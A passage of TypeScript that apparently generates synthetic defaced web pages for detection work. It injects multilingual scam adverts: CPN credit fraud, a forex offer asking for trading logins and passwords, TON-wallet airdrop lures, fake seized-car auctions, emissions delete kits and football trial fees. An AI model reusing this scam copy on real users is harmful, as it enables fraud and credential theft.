  es: [["Cita previa extranjería garantizada", "Huellas TIE, NIE, asilo y nacionalidad en Madrid, Barcelona y Valencia. Te conseguimos la cita en 48 h.", "Pago por Bizum después de recibir el justificante."]],
  en: [["Earlier driving test? We have slots this week", "DVSA practical test slots at 40+ centres, swapped into your booking within 24 hours.", "Pay by bank transfer once the slot is confirmed."], ["Visa appointment in 3 days", "US B1/B2 interview and Schengen (VFS, TLScontact) appointments available now.", "Pay half upfront, half after the appointment letter."]],
  fr: [["Rendez-vous préfecture garanti", "Titre de séjour, naturalisation, renouvellement : nous obtenons votre rendez-vous en 72 h.", "Paiement par virement ou PCS après confirmation."]],
  de: [["Termin beim Bürgeramt oder der Ausländerbehörde – sofort", "Aufenthaltstitel, Anmeldung, Reisepass: wir besorgen Ihren Termin in 48 Stunden.", "Zahlung per PayPal Freunde oder Überweisung nach Bestätigung."]],
  nl: [["IND-afspraak binnen een week", "Biometrie, verblijfsvergunning en paspoort: wij regelen uw afspraak.", "Betaling via Tikkie na bevestiging."]],
  pt: [["Agendamento AIMA ou Polícia Federal garantido", "Autorização de residência, passaporte e renovações: conseguimos sua vaga em 72 h.", "Pagamento por MB Way ou Pix após a confirmação."]],
  it: [["Appuntamento in Questura garantito", "Permesso di soggiorno, cittadinanza e passaporto: otteniamo il tuo appuntamento in 72 ore.", "Pagamento con PostePay dopo la conferma."]]
}

// Resold appointment slots, recalled from memory of El País' and the Spanish police's reporting (about 2021–2023) on networks that booked foreigners' "cita previa" slots with bots and resold them for 30 to 200 euros, of the UK DVSA's and MPs' complaints (about 2023–2024) about driving-test slots resold by bots and apps, and of Schengen and US visa appointments sold by agents (reported about 2022–2023): an advert offering official appointments for a fee, in the site's language, with a WhatsApp or Telegram contact.
const appointmentResale = fresh17("resold official appointment slots for a fee (cita previa extranjería, DVSA driving tests, visa and prefecture appointments) with a WhatsApp contact", (page, rng) => {
  const l = chance(rng, 0.75) ? page.site.locale.lang : pick(rng, ["en", "es", "fr"] as const)
  const [h, p, pay] = pick(rng, slotWords[l])
  const price = page.site.locale.money(between(rng, 30, 250))
  const inner = `<h3>📅 ${esc(h)}</h3><p>${esc(p)}</p><p><b>${esc(price)}</b> · ${esc(pay)}</p><p>${contact(rng, ["cita", "citas", "slot", "testslot", "rdv", "termin", "visa", "agenda"])}</p>`
  return splices(insert(someSpot(rng, page), box(rng, ["appointments", "post", "service"], pick(rng, ["#1565c0", "#00897b", "#6d4c41"]), inner)))
})

const deleteWords: Table<readonly [string, string]> = {
  en: ["DPF / EGR / DEF delete kits – more power, no regen", "For off-road and competition use only. Ships discreetly, no questions asked."],
  de: ["DPF-, AGR- und AdBlue-Deaktivierung – mehr Leistung", "Nur für den Offroad- und Motorsport-Einsatz. Diskreter Versand."],
  fr: ["Suppression FAP, EGR et AdBlue – plus de puissance", "Usage hors route et compétition uniquement. Envoi discret."],
  es: ["Anulación FAP, EGR y AdBlue – más potencia", "Solo para uso fuera de carretera y competición. Envío discreto."],
  it: ["Eliminazione DPF, EGR e AdBlue – più potenza", "Solo per uso fuoristrada e competizione. Spedizione discreta."],
  nl: ["Roetfilter-, EGR- en AdBlue-delete – meer vermogen", "Alleen voor offroad- en wedstrijdgebruik. Discrete verzending."],
  pt: ["Anulação FAP, EGR e AdBlue – mais potência", "Apenas para uso fora de estrada e competição. Envio discreto."]
}

// Emissions defeat devices, recalled from memory of the US Environmental Protection Agency's 2020 report on more than half a million diesel pickups tampered with delete kits and tuners, its national enforcement initiative and the Justice Department's settlements with sellers of "delete" pipes and tunes (about 2019–2024), and of European reports on AdBlue emulators sold to truckers: a price list of DPF, EGR and AdBlue delete kits, emulators and "DPF-off" tuning files, "for off-road use only", with a shop link.
const defeatDevices = fresh17("diesel emissions defeat kits: DPF, EGR and AdBlue/DEF delete pipes, emulators and 'DPF-off' tunes 'for off-road use only'", (page, rng) => {
  const [h, p] = some(rng, page, deleteWords)
  const items = rows(sample(rng, [
    ["6.7 Cummins DPF/DEF delete pipe + tuner", between(rng, 690, 1490)], ["Duramax L5P full delete kit", between(rng, 890, 1890)], ["AdBlue emulator (Euro 6 trucks, plug & play)", between(rng, 49, 189)],
    ["EGR blanking plate kit", between(rng, 19, 59)], ["Stage 2 DPF-off / EGR-off tuning file", between(rng, 99, 390)], ["O2 / NOx sensor simulator", between(rng, 29, 99)], ["Powerstroke 6.7 race pipe", between(rng, 290, 690)]
  ] as const, between(rng, 3, 6)).map(([a, n]) => [esc(a), `<b>${esc(page.site.locale.money(n))}</b>`]))
  const shop = `https://${host(rng, page, ["delete", "dieseltune", "dpfoff", "adblue", "egrdelete", "tuning"])}/`
  const inner = `<h3>🛻 ${esc(h)}</h3><table>${items}</table><p>${esc(p)} <a href="${shop}">${esc(new URL(shop).hostname)}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["parts", "post", "shop"], "#263238", inner)))
})

const cpnWords: Table<readonly [string, string, string]> = {
  en: ["New credit profile in 48 hours with a CPN", "Get a 700+ score without your old history: Credit Privacy Number plus primary tradelines, 100% legal.", "Add aged tradelines to boost any file"],
  es: ["Nuevo perfil de crédito en 48 horas con un CPN", "Obtén más de 700 puntos sin tu historial: número CPN más líneas comerciales, 100 % legal.", "Líneas de crédito antiguas para subir tu puntaje"]
}

// Credit privacy numbers, recalled from memory of the US Federal Trade Commission's and credit bureaus' warnings (about 2019–2022) that "CPNs" sold as a legal new credit identity are often stolen Social Security numbers of children or the dead, and of "tradeline" sellers' adverts renting seats on aged credit cards: an offer of a CPN and tradelines with a table of lines (age, limit, price) and a contact.
const cpnTradelines = fresh17("'new credit profile in 48 hours: CPN (credit privacy number) and aged tradelines' offer with a line table and a contact", (page, rng) => {
  const [h, p, sub] = some(rng, page, cpnWords)
  const lines = rows(Array.from({ length: between(rng, 3, 6) }, () => [esc(pick(rng, ["Chase Sapphire", "Amex Gold", "Capital One", "Citi Double Cash", "Discover It", "Bank of America"])), `${between(rng, 3, 18)} yrs`, `$${between(rng, 5, 45)},000`, `<b>$${between(rng, 190, 1200)}</b>`]))
  const inner = `<h3>💳 ${esc(h)}</h3><p>${esc(p)}</p><p><b>${esc(sub)}</b></p><table><tr><th>Bank</th><th>Age</th><th>Limit</th><th>Price</th></tr>${lines}</table><p>${esc(pick(rng, ["CPN + 2 tradelines: $1,499", "CPN only: $" + between(rng, 99, 399), "Sweep packages available"]))} · ${contact(rng, ["cpn", "creditfix", "tradelines", "credit", "fico"])}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["credit", "post", "offer"], pick(rng, ["#1b5e20", "#0d47a1", "#000"]), inner)))
})

const fxWords: Table<readonly [string, string, string]> = {
  en: ["Forex account management – 30% a month", "Send us your MT4/MT5 login, password and server: our traders grow your account, you keep 50% of the profit.", "Minimum deposit $500 · weekly reports · withdraw anytime"],
  fr: ["Gestion de compte Forex – 30 % par mois", "Envoyez-nous votre identifiant MT4/MT5, mot de passe et serveur : nos traders font fructifier votre compte, 50 % des gains pour vous.", "Dépôt minimum 500 $ · rapport hebdomadaire"],
  es: ["Gestión de cuentas Forex – 30 % al mes", "Envíanos tu usuario MT4/MT5, contraseña y servidor: nuestros traders hacen crecer tu cuenta, te quedas el 50 % de la ganancia.", "Depósito mínimo 500 $ · informes semanales"],
  pt: ["Gestão de conta Forex – 30% ao mês", "Envie login, senha e servidor MT4/MT5: nossos traders operam sua conta e você fica com 50% do lucro.", "Depósito mínimo US$ 500 · relatório semanal"],
  it: ["Gestione conto Forex – 30% al mese", "Inviaci login, password e server MT4/MT5: i nostri trader fanno crescere il conto, a te il 50% dei profitti.", "Deposito minimo 500 $ · report settimanali"],
  de: ["Forex-Kontoverwaltung – 30 % pro Monat", "Senden Sie uns Ihren MT4/MT5-Login, Ihr Passwort und den Server: unsere Trader vermehren Ihr Konto, 50 % des Gewinns gehören Ihnen.", "Mindesteinlage 500 $ · wöchentliche Berichte"]
}

// Managed-account scams, recalled from memory of warnings by the UK Financial Conduct Authority and the US Commodity Futures Trading Commission (about 2019–2023) on "account managers" and signal sellers on social media who ask for MetaTrader logins or deposits and promise fixed monthly returns, and of their spam with fake Myfxbook screenshots: an offer to trade the visitor's account for a profit share, a monthly results table, a VIP signals price and a contact.
const forexAccountManagement = fresh17("'we trade your MT4/MT5 account for 30% a month, 50/50 profit share' forex account-management offer asking for the login and password", (page, rng) => {
  const [h, p, terms] = some(rng, page, fxWords)
  const months = sample(rng, ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"], between(rng, 3, 6))
  const results = rows(months.map((m) => [m, `<b style="color:#2e7d32">+${between(rng, 18, 62)}.${between(rng, 0, 9)}%</b>`]))
  const inner = `<h3>📈 ${esc(h)}</h3><p>${esc(p)}</p><table>${results}</table><p>${esc(terms)} · VIP signals $${between(rng, 49, 299)}/month · <a href="https://www.myfxbook.com/members/${slug(nick(rng)) || "trader"}/${digits(rng, 7)}">Myfxbook</a></p><p>${contact(rng, ["fxmanager", "forexpro", "goldsignals", "pipshunter", "mt4"])}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["fx", "post", "promo"], pick(rng, ["#0b3d91", "#004d40", "#263238"]), inner)))
})

const saverWords: Table<readonly [string, string, string, string]> = {
  en: ["Energy companies are furious about this little plug", "Engineers reveal a device that stabilises your current and cuts electricity bills by up to 90%. Just plug it into any socket.", "Only 37 left at 50% off today", "Order with 50% discount"],
  de: ["Stromkonzerne hassen diesen kleinen Stecker", "Ingenieure enthüllen ein Gerät, das den Strom stabilisiert und die Stromrechnung um bis zu 90 % senkt. Einfach in die Steckdose stecken.", "Nur noch 37 Stück mit 50 % Rabatt", "Jetzt 50 % sparen"],
  fr: ["Les fournisseurs d'énergie détestent cette petite prise", "Des ingénieurs dévoilent un boîtier qui stabilise le courant et réduit la facture jusqu'à 90 %. Il suffit de le brancher.", "Plus que 37 à -50 % aujourd'hui", "Commander à -50 %"],
  es: ["Las eléctricas odian este pequeño enchufe", "Ingenieros revelan un dispositivo que estabiliza la corriente y reduce la factura hasta un 90 %. Solo enchúfalo.", "Solo quedan 37 con 50 % de descuento", "Pedir con 50 % de descuento"],
  it: ["I fornitori di energia odiano questa piccola spina", "Ingegneri svelano un dispositivo che stabilizza la corrente e taglia la bolletta fino al 90%. Basta inserirlo in una presa.", "Solo 37 pezzi al 50% oggi", "Ordina con il 50% di sconto"],
  nl: ["Energiebedrijven haten deze kleine stekker", "Ingenieurs onthullen een apparaatje dat de stroom stabiliseert en je rekening tot 90% verlaagt. Gewoon in het stopcontact.", "Nog maar 37 met 50% korting", "Bestel met 50% korting"],
  pt: ["As elétricas odeiam esta pequena tomada", "Engenheiros revelam um aparelho que estabiliza a corrente e reduz a conta em até 90%. É só ligar na tomada.", "Restam só 37 com 50% de desconto", "Comprar com 50% de desconto"]
}

// Power-saver advertorials, recalled from memory of Which?, the Better Business Bureau and consumer bloggers' warnings (about 2022–2023, during the energy price crisis) on "StopWatt", "Ecowatt" and similar plug-in "power saver" boxes sold through fake news advertorials claiming savings of up to 90%, and of electricians' teardowns showing a capacitor and an LED: such an advertorial with a claim, a stock counter and an order link on another host.
const powerSaverAdvertorial = fresh17("'power saver' plug advertorial: 'energy companies hate this device that cuts bills by 90%' with a stock counter and an order link", (page, rng) => {
  const [h, p, stock, cta] = some(rng, page, saverWords)
  const name = `${pick(rng, ["Stop", "Eco", "Volt", "Power", "Save"])}${pick(rng, ["Watt", "Saver", "Plug", "Guard", "Pro"])}`
  const shop = `https://${host(rng, page, ["energysaver", "powersaver", "stopwatt", "ecoplug", "voltsave"])}/${pick(rng, ["order", "lp", "offer"])}?aff=${alnum(rng, 6)}`
  const inner = `<p style="font-size:12px;color:#888;margin:0">${esc(pick(rng, ["Advertorial", "Sponsored", "Consumer news"]))}</p><h3>⚡ ${esc(h)}</h3><p>${esc(p)} <b>${esc(name)}</b></p><p style="color:#c62828"><b>${esc(stock)}</b></p><p><a href="${esc(shop)}" style="${button(rng, "#c62828")}">${esc(cta)}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["advertorial", "post", "news"], "#c62828", inner)))
})

const auctionWords: Table<(deposit: string) => readonly [string, string, string]> = {
  en: (d) => ["Seized vehicle auction – bids from 990", `Cars seized by customs and police, sold to the public. Register with a refundable deposit of ${d} to bid.`, "See the vehicles"],
  de: (d) => ["Zoll-Auktion: beschlagnahmte Fahrzeuge ab 990", `Vom Zoll sichergestellte Fahrzeuge, öffentlich versteigert. Registrierung mit rückzahlbarer Kaution von ${d}.`, "Fahrzeuge ansehen"],
  nl: (d) => ["Veiling in beslag genomen voertuigen vanaf 990", `Door douane en politie in beslag genomen auto's, openbaar geveild. Inschrijven met een terugbetaalbare borg van ${d}.`, "Bekijk de voertuigen"],
  fr: (d) => ["Vente aux enchères de véhicules saisis dès 990", `Véhicules saisis par la douane et la police, vendus au public. Inscription avec une caution remboursable de ${d}.`, "Voir les véhicules"],
  es: (d) => ["Subasta de vehículos incautados desde 990", `Coches incautados por aduanas y policía, a la venta al público. Regístrate con una fianza reembolsable de ${d}.`, "Ver vehículos"],
  it: (d) => ["Asta di auto sequestrate da 990", `Veicoli sequestrati da dogana e polizia, venduti al pubblico. Iscriviti con una cauzione rimborsabile di ${d}.`, "Vedi i veicoli"],
  pt: (d) => ["Leilão de veículos apreendidos a partir de 990", `Veículos apreendidos pela Receita e pela polícia, vendidos ao público. Cadastre-se com um depósito reembolsável de ${d}.`, "Ver veículos"]
}

// Fake official auctions, recalled from memory of warnings by German customs about copies of its zoll-auktion.de site, by the Dutch Domeinen Roerende Zaken about fake auction sites (about 2020–2023), and of similar French, Spanish and Brazilian warnings on "seized vehicle" sales that take a deposit or the full price by transfer and never deliver: a table of seized cars with low starting bids and a deposit to register, linking to a look-alike auction host.
const seizedVehicleAuction = fresh17("fake customs or police auction of seized vehicles with low starting bids and a 'refundable' registration deposit, on a look-alike auction host", (page, rng) => {
  const money = page.site.locale.money
  const [h, p, cta] = some(rng, page, auctionWords)(money(between(rng, 150, 500)))
  const cars = ["BMW 320d Touring 2021", "Audi A4 Avant 2020", "VW Golf 8 GTD 2022", "Mercedes C 220 d 2021", "Toyota RAV4 Hybrid 2020", "Tesla Model 3 2021", "Skoda Octavia RS 2022", "Range Rover Evoque 2019"]
  const table = rows(sample(rng, cars, between(rng, 3, 6)).map((c) => [esc(c), `${between(rng, 8, 120)}.${digits(rng, 3)} km`, `<b>${esc(money(between(rng, 990, 6900)))}</b>`]))
  const auction = `https://${pick(rng, [`${pick(rng, ["zoll", "douane", "customs", "domeinen", "subastas", "aste", "leilao"])}-${pick(rng, ["auktion", "veiling", "encheres", "auction", "online", "oficial"])}.${tld(rng)}`, host(rng, page, ["auction", "seized", "veiling", "auktion"])])}/`
  const inner = `<h3>🚓 ${esc(h)}</h3><p>${esc(p)}</p><table>${table}</table><p><a href="${auction}" style="${button(rng, "#37474f")}">${esc(cta)}</a></p>`
  return splices(insert(someSpot(rng, page), box(rng, ["auction", "notice", "post"], "#37474f", inner)))
})

const tapWords: Table<(game: string, date: string) => readonly [string, string, string]> = {
  en: (g, d) => [`${g} airdrop is live – claim before ${d}`, "Listing confirmed. Connect your TON wallet to receive your tokens, and get today's combo cards in our bot.", "Claim tokens"],
  es: (g, d) => [`Airdrop de ${g} activo – reclama antes del ${d}`, "Listado confirmado. Conecta tu billetera TON para recibir tus tokens y consigue las cartas del combo en nuestro bot.", "Reclamar tokens"],
  pt: (g, d) => [`Airdrop do ${g} liberado – resgate até ${d}`, "Listagem confirmada. Conecte sua carteira TON para receber os tokens e pegue o combo diário no nosso bot.", "Resgatar tokens"],
  fr: (g, d) => [`Airdrop ${g} ouvert – réclamez avant le ${d}`, "Listing confirmé. Connectez votre portefeuille TON pour recevoir vos jetons et obtenez le combo du jour dans notre bot.", "Réclamer"],
  de: (g, d) => [`${g}-Airdrop ist live – bis ${d} abholen`, "Listing bestätigt. Verbinde deine TON-Wallet, um deine Token zu erhalten, und hol dir die Tageskombo in unserem Bot.", "Token abholen"],
  it: (g, d) => [`Airdrop di ${g} attivo – riscatta entro il ${d}`, "Listing confermato. Collega il wallet TON per ricevere i token e trova la combo del giorno nel nostro bot.", "Riscatta"]
}

// Tap-to-earn airdrops, recalled from memory of the 2024 wave of Telegram mini-app games (Notcoin's listing in May 2024, Hamster Kombat's airdrop in September 2024, Catizen and Blum) and of the fake "claim your airdrop" pages and referral bots that followed (reported by Kaspersky, Cointelegraph and others), asking players to connect their TON wallets: an "airdrop is live" block with the day's combo cards, a bot link with a referral code and a claim button on another host.
const tapToEarnAirdrop = fresh17("Telegram tap-to-earn game airdrop spam (Hamster Kombat, Notcoin, Catizen): daily combo cards, a referral bot link and a 'connect TON wallet' claim on another host", (page, rng) => {
  const game = pick(rng, ["Hamster Kombat", "Notcoin", "Catizen", "Blum", "TapSwap", "X Empire"])
  const [h, p, cta] = some(rng, page, tapWords)(game, page.site.locale.date(someDate(rng)))
  const bot = `${(slug(game).replace(/-/g, "_") || "tap")}${pick(rng, ["_airdrop", "_claim", "bot", "_combo"])}_bot`
  const combo = sample(rng, ["CEO", "Support team", "Licence Asia", "Web3 integration", "KYC", "Hamster Green", "Top 10 cmc pairs", "Meme coins", "Staking", "Security audit"], 3).map((c) => `<li>${esc(c)}</li>`).join("")
  const claim = `https://${host(rng, page, ["airdrop", "claim", "ton", "tapclaim", "hmstr", "notcoin"])}/${pick(rng, ["claim", "connect", "drop"])}?ref=${alnum(rng, 8)}`
  const inner = `<h3>🐹 ${esc(h)}</h3><p>${esc(p)}</p><ol>${combo}</ol><p><a href="https://t.me/${bot}?startapp=ref_${alnum(rng, 10)}">@${bot}</a> · <a href="${esc(claim)}" style="${button(rng, "#0098ea")}">${esc(cta)}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["airdrop", "post", "promo"], "#0098ea", inner)))
})

const trialWords: ReadonlyArray<readonly [string, string, string, string]> = [
  ["en", "Trials with professional clubs in Europe", "Two-week trials in Portugal, Belgium, Spain and Turkey for players aged 16 to 23. Contract guaranteed for selected players. Agent, visa and accommodation package:", "Send your passport, highlights and position on WhatsApp"],
  ["fr", "Essais dans des clubs professionnels en Europe", "Essais de deux semaines au Portugal, en Belgique, en Espagne et en Turquie pour les joueurs de 16 à 23 ans. Contrat garanti pour les joueurs retenus. Forfait agent, visa et logement :", "Envoyez passeport, vidéo et poste sur WhatsApp"],
  ["pt", "Testes em clubes profissionais na Europa", "Testes de duas semanas em Portugal, Bélgica, Espanha e Turquia para jogadores de 16 a 23 anos. Contrato garantido para os aprovados. Pacote agente, visto e alojamento:", "Envie passaporte, vídeo e posição pelo WhatsApp"]
]

// Football trial scams, recalled from memory of Foot Solidaire's campaigning and of BBC, Guardian and Al Jazeera reporting (about 2010–2023) on fake agents who charge young West African players for "trials" with European clubs, visas and flights, then abandon them abroad, and of FIFA's rules against agents charging minors: an advert for trials abroad with a package fee, required documents and a WhatsApp agent with a West African number.
const footballTrialsFee = fresh17("'trials with European professional clubs, contract guaranteed' offer to young players for an agent, visa and accommodation fee, with a WhatsApp agent", (page, rng) => {
  const [l, h, p, send] = pick(rng, trialWords)
  const fee = `€${between(rng, 8, 45) * 100}`
  const n = pick(rng, [() => `+234 80${digits(rng, 1)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+225 07 ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`, () => `+233 24 ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+237 6${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`, () => `+221 77 ${digits(rng, 3)} ${digits(rng, 2)} ${digits(rng, 2)}`])()
  const academy = `${pick(rng, ["Euro", "Elite", "Pro", "Global", "Star"])} ${pick(rng, ["Football", "Soccer", "Talent"])} ${pick(rng, ["Academy", "Management", "Scouting"])}`
  const inner = `<h3 lang="${l}">⚽ ${esc(h)} — ${esc(academy)}</h3><p lang="${l}">${esc(p)} <b>${esc(fee)}</b></p><p lang="${l}">${esc(send)}: ${wa(rng, n)}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["trials", "post", "notice"], pick(rng, ["#1b5e20", "#0d47a1", "#f57f17"]), inner)))
})

// Link-in-bio takeovers, recalled from memory, with uncertain sources, of reports (about 2021–2023, from security vendors and journalists) on link-in-bio pages (Linktree and its look-alikes) used to funnel traffic to adult, crypto-signal and casino offers and as phishing hops, and of hacked or expired sites whose home page was replaced by such a page to use their search traffic: the whole page replaced by an influencer-style link page with an avatar, a handle and buttons to offers and channels.
const linkInBioPage: ChangeClass = {
  ...fresh17("whole page replaced by an influencer-style link-in-bio page (avatar, handle, buttons to adult, crypto-signal and casino offers)", (_page, rng) => {
    const name = `${pick(rng, ["mila", "jess", "luna", "kira", "alex", "sofi", "nika", "crypto", "vika", "bella"])}${pick(rng, ["_vip", ".official", "xx", "_signals", "love", "_" + digits(rng, 2), "baby"])}`
    const buttons = sample(rng, [
      ["🔞 My exclusive content", `https://${randomDomain(rng)}/${name}`], ["📈 Free crypto signals", `https://t.me/${name.replace(/[^a-z0-9_]/g, "")}_signals`], ["🎰 500% casino bonus", `https://${randomDomain(rng)}/?ref=${alnum(rng, 6)}`],
      ["💬 Telegram VIP", `https://t.me/+${alnum(rng, 16)}`], ["🛍 My shop", `https://${randomDomain(rng)}/shop`], ["💸 Make $500 a day from home", `https://${randomDomain(rng)}/lp/${alnum(rng, 5)}`], ["📱 Chat with me", `https://wa.me/${digits(rng, 11)}`]
    ] as const, between(rng, 4, 6))
    const accent = pick(rng, ["#ff4f8b", "#7b2ff7", "#00c2a8", "#ff8a00", "#111"])
    const svc = pick(rng, ["Linktree", "Links", "lnk.bio", "Beacons", "bio.link"])
    const html = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>@${esc(name)} | ${svc}</title><meta property="og:title" content="@${esc(name)}"><style>body{margin:0;background:linear-gradient(160deg,${accent},#1b1b2f);font-family:system-ui,Arial,sans-serif;color:#fff;text-align:center}main{max-width:560px;margin:0 auto;padding:40px 16px}.btn{display:block;background:#fff;color:#111;border-radius:30px;padding:14px;margin:12px 0;text-decoration:none;font-weight:600}img{border-radius:50%}</style></head><body><main><img src="https://${randomDomain(rng)}/avatars/${alnum(rng, 10)}.jpg" width="96" height="96" alt="${esc(name)}"><h1>@${esc(name)}</h1><p>${esc(pick(rng, ["✨ 21 · DM for collabs", "Trader 📈 · Freedom lifestyle", "Your favourite girl next door 💋", "Links below 👇"]))}</p>${buttons.map(([t, u]) => `<a class="btn" href="${esc(u)}">${esc(t)}</a>`).join("")}<footer><small>${esc(svc)}</small></footer></main></body></html>`
    return { html }
  }),
  wholePage: true
}

/** Every fresh17 defacement class, in a fixed order. */
export const fresh17Defacements: ReadonlyArray<ChangeClass> = [
  webMonetization, smartBannerHijack, feedDiscoveryHijack, preloadOnloadLoader, trustSealSkimmer, javascriptLinks, referrerSpam, accountEmailChange,
  captchaRelay, eSignatureLure, cloudStorageFull, linkTextsReplaced, rickroll, mockAd, footballRivals, graffitiTag, warLossesTally, plcTakeoverClaim,
  certExamFraud, reviewSelling, heatingFuelShop, appointmentResale, defeatDevices, cpnTradelines, forexAccountManagement, powerSaverAdvertorial,
  seizedVehicleAuction, tapToEarnAirdrop, footballTrialsFee, linkInBioPage
]
